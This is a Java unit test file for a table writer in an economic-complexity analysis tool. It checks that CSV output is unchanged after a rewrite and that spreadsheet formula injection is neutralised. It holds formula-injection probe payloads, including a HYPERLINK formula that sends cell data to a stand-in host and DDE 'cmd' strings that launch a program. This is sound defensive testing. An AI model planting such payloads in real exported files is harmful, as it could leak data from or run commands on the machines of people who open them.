package org.klaster.app.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.junit.jupiter.api.Test;
import org.klaster.complexity.ComplexityTable;
import org.klaster.complexity.ExportRecord;

/**
 * The streamed CSV writer prints the bytes the straightforward one printed (commons-csv for every cell,
 * {@code Double.toString} through {@code BigDecimal.toPlainString} for every number) — on a complexity
 * table with left-out locations and products and codes that need quoting, and on awkward text cells.
 */
class TableWriterTest {

    private static final Names NAMES = new Names(Lang.en, Reference.regions(), c -> null, c -> null);

    /**
     * The reference: every cell through commons-csv, numbers as the writer printed them before streaming;
     * a text cell a spreadsheet would evaluate (first character {@code = + - @}, tab, CR) spelled as OWASP's
     * "CSV Injection" page says: a single quote in front, the cell in double quotes, inner quotes doubled.
     */
    private static <R> String reference(Table<R> t) throws IOException {
        StringWriter w = new StringWriter();
        CSVPrinter p = new CSVPrinter(w, CSVFormat.DEFAULT.builder().setRecordSeparator("\n").get());
        for (Column<R> c : t.columns()) p.print(c.name());
        p.println();
        List<String> neutralised = new ArrayList<>();
        for (R row : t.rows()) {
            for (Column<R> c : t.columns()) {
                Object v = c.read(row);
                if (c.type() == ColumnType.TEXT && v instanceof String s && !s.isEmpty() && "=+-@\t\r".indexOf(s.charAt(0)) >= 0) {
                    p.print("NEUTRALISED" + neutralised.size() + "X"); // a token commons-csv leaves unquoted
                    neutralised.add("\"'" + s.replace("\"", "\"\"") + "\"");
                } else {
                    p.print(old(v));
                }
            }
            p.println();
        }
        p.flush();
        String out = w.toString();
        for (int i = 0; i < neutralised.size(); i++) out = out.replace("NEUTRALISED" + i + "X", neutralised.get(i));
        return out;
    }

    private static String old(Object v) {
        if (v == null) return "";
        if (v instanceof Double d) {
            if (d.isNaN()) return "";
            if (d.isInfinite()) return d > 0 ? "inf" : "-inf";
            if (d == Math.rint(d) && Math.abs(d) < 1e15) return Long.toString((long) (double) d);
            return new BigDecimal(Double.toString(d)).toPlainString();
        }
        return v.toString();
    }

    private static <R> String streamed(Table<R> t) throws IOException {
        StringWriter w = new StringWriter();
        TableWriter.write(t, TableWriter.Format.csv, w);
        return w.toString();
    }

    @Test
    void aComplexityTableIsPrintedAsBefore() throws IOException {
        String[] locations = {"RUS", "RU-MOW", "a,b", "quote\"d", " lead", "trail ", "#hash", "!bang", "Москва", "x\ty",
                "L10", "L11", "L12", "L13", "L14", "L15", "zero"};
        SplittableRandom rnd = new SplittableRandom(11);
        List<ExportRecord> records = new ArrayList<>();
        for (int year : new int[] {2021, 2022}) {
            for (int c = 0; c < locations.length; c++) {
                for (int p = 0; p < 60; p++) {
                    if (rnd.nextDouble() < 0.7) {
                        String product = p == 7 ? "01,02" : p == 8 ? "8 " : String.format("%04d", p);
                        double v = locations[c].equals("zero") || p == 13 ? 0.0
                                : rnd.nextDouble() < 0.3 ? Math.floor(1e6 * rnd.nextDouble()) : 1e3 * rnd.nextDouble() * (1 + c % 5);
                        records.add(new ExportRecord(year, locations[c], product, v));
                    }
                }
            }
        }
        List<ComplexityTable.Year> years = ComplexityTable.compute(records, 1.0);
        ComplexityAnalysis.Exports in = new ComplexityAnalysis.Exports(Provenance.Input.file("exports", "x.csv", null),
                records, List.of(), null);
        Table<ComplexityAnalysis.Cell> t = ComplexityAnalysis.table(in, years, 1.0, NAMES, false);
        String out = streamed(t);
        assertThat(out).contains("\"a,b\"", "\"quote\"\"d\"", "\"#hash\"", "Москва", "\"01,02\"", ",,");
        assertThat(out).isEqualTo(reference(t));
        assertThat(out.lines().count()).isEqualTo(1 + years.stream().mapToLong(y -> (long) y.locations().size()
                * y.products().size()).sum());
    }

    @Test
    void textCellsQuoteExactlyLikeCommonsCsv() throws IOException {
        List<String[]> rows = new ArrayList<>();
        for (String s : new String[] {"", "a", "\"", "#", "$x", " ", "a b", "a\nb", "a\r", "é", "\u00a0x", "x,", "-1", "=A1"}) {
            rows.add(new String[] {s, s});
        }
        Schema<String[]> schema = Schema.<String[]>builder("test", "TestRow").optionalText("a", r -> r[0])
                .optionalText("b", r -> r[1]).build();
        Table<String[]> t = new Table<>(schema, rows, false, new Provenance("test", List.of(), Map.of(), null), List.of(), List.of());
        assertThat(streamed(t)).isEqualTo(reference(t));
    }

    @Test
    void numbersAreExactAndUndefinedIsEmpty() throws IOException {
        List<Double> values = new ArrayList<>(List.of(0.0, -0.0, 1.0, -2.5, 1e-5, 1e15, 9.99e14, 123456789.125,
                Double.MIN_VALUE, Double.MAX_VALUE, Double.NaN, Double.POSITIVE_INFINITY, Double.NEGATIVE_INFINITY, 0.1 + 0.2));
        SplittableRandom rnd = new SplittableRandom(7);
        for (int i = 0; i < 5000; i++) values.add(Double.longBitsToDouble(rnd.nextLong()));
        Schema<Double> schema = Schema.<Double>builder("test", "TestRow").optionalNumber("x", Unit.NONE, d -> d).build();
        Table<Double> t = new Table<>(schema, values, false, new Provenance("test", List.of(), Map.of(), null), List.of(), List.of());
        String out = streamed(t);
        assertThat(out).isEqualTo(reference(t));
        for (String line : out.lines().skip(1).toList()) {
            if (!line.equals("\"\"") && !line.contains("inf")) {
                assertThat(line).doesNotContain("E");
                double back = Double.parseDouble(line);
                assertThat(Double.isFinite(back)).isTrue();
            }
        }
    }

    /** Probe payloads of issue 10, probe 3 (and OWASP's list of trigger characters). */
    static final String[] PAYLOADS = {"=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"};

    private record Evil(String code, String name, double value, int count) {
    }

    private static Table<Evil> evil(boolean names) {
        Schema<Evil> schema = Schema.<Evil>builder("test", "TestRow").text("code", Evil::code).name("code_name", Evil::name)
                .number("value", Unit.NONE, Evil::value).integer("count", Unit.NONE, Evil::count).build();
        List<Evil> rows = new ArrayList<>();
        for (int i = 0; i < PAYLOADS.length; i++) rows.add(new Evil(PAYLOADS[i], PAYLOADS[PAYLOADS.length - 1 - i], -0.2 * (i + 1), -i));
        rows.add(new Evil("ok'=", "'@quoted already", -1.5e-3, Integer.MIN_VALUE));
        return new Table<>(schema, rows, names, new Provenance("test", List.of(), Map.of(), null), List.of(), List.of());
    }

    /**
     * Issue 10, probe 3 (formula injection): a code or name whose first character is {@code = + - @}, tab or
     * CR came back live in CSV exports ({@code "=HYPERLINK(""http://evil…"")"}, {@code +1+cmd|' /C calc'!A0}).
     * Now such a text cell starts with a single quote and is quoted (OWASP "CSV Injection"); numbers, negative
     * ones included, keep their exact text; a quote that is not first is left alone.
     */
    @Test
    void formulaLeadingTextIsNeutralisedAndNumbersAreNot() throws IOException {
        assertThat(streamed(evil(true))).isEqualTo("""
                code,code_name,value,count
                "'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'\r=1+1",-0.2,0
                "'+1+cmd|' /C calc'!A0","'\t=1+1",-0.4,-1
                "'@SUM(1)","'-2+3+cmd|' /C calc'!A0",-0.6000000000000001,-2
                "'-2+3+cmd|' /C calc'!A0","'@SUM(1)",-0.8,-3
                "'\t=1+1","'+1+cmd|' /C calc'!A0",-1,-4
                "'\r=1+1","'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")",-1.2000000000000002,-5
                ok'=,'@quoted already,-0.0015,-2147483648
                """);
        assertThat(streamed(evil(true))).isEqualTo(reference(evil(true)));
    }

    /** Probe 3: JSON is data, not a spreadsheet — the texts stay exactly as they are there (and on the terminal). */
    @Test
    void jsonAndTheTerminalTableKeepTheTextAsItIs() throws IOException {
        StringWriter w = new StringWriter();
        TableWriter.write(evil(true), TableWriter.Format.json, w);
        com.fasterxml.jackson.databind.JsonNode rows = new com.fasterxml.jackson.databind.ObjectMapper().readTree(w.toString());
        for (int i = 0; i < PAYLOADS.length; i++) {
            assertThat(rows.get(i).get("code").asText()).isEqualTo(PAYLOADS[i]);
            assertThat(rows.get(i).get("value").asDouble()).isEqualTo(-0.2 * (i + 1));
        }
        StringWriter table = new StringWriter();
        TableWriter.write(evil(false), TableWriter.Format.table, table);
        assertThat(table.toString()).contains("@SUM(1)").doesNotContain("'@SUM(1)");
    }

    /**
     * Probe 3, XLSX: fastexcel writes a string as a string cell, so a formula-looking code is stored as text
     * (no {@code <f>} element in the sheet, the reader sees a STRING with the very characters) and numbers as numbers.
     */
    @Test
    void xlsxKeepsFormulaLookingTextAsText() throws IOException {
        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
        Xlsx.write(evil(true), Messages.of(Lang.en), bytes);
        java.nio.file.Path file = java.nio.file.Files.createTempFile("klaster-evil", ".xlsx");
        try (var zip = new java.util.zip.ZipFile(java.nio.file.Files.write(file, bytes.toByteArray()).toFile())) {
            var sheets = zip.stream().filter(e -> e.getName().startsWith("xl/worksheets/")).toList();
            assertThat(sheets).isNotEmpty();
            for (var e : sheets) {
                try (var in = zip.getInputStream(e)) {
                    assertThat(new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8)).as(e.getName())
                            .doesNotContain("<f>", "<f ");
                }
            }
        } finally {
            java.nio.file.Files.delete(file);
        }
        try (var wb = new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(bytes.toByteArray()))) {
            List<org.dhatim.fastexcel.reader.Row> rows = wb.getFirstSheet().read();
            for (int i = 0; i < PAYLOADS.length; i++) {
                var row = rows.get(i + 1);
                assertThat(row.getCell(0).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
                assertThat(row.getCell(0).getFormula()).isNull();
                assertThat(row.getCell(0).asString()).isEqualTo(PAYLOADS[i]);
                assertThat(row.getCell(2).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.NUMBER);
                assertThat(row.getCell(2).asNumber().doubleValue()).isEqualTo(-0.2 * (i + 1));
            }
        }
    }
}
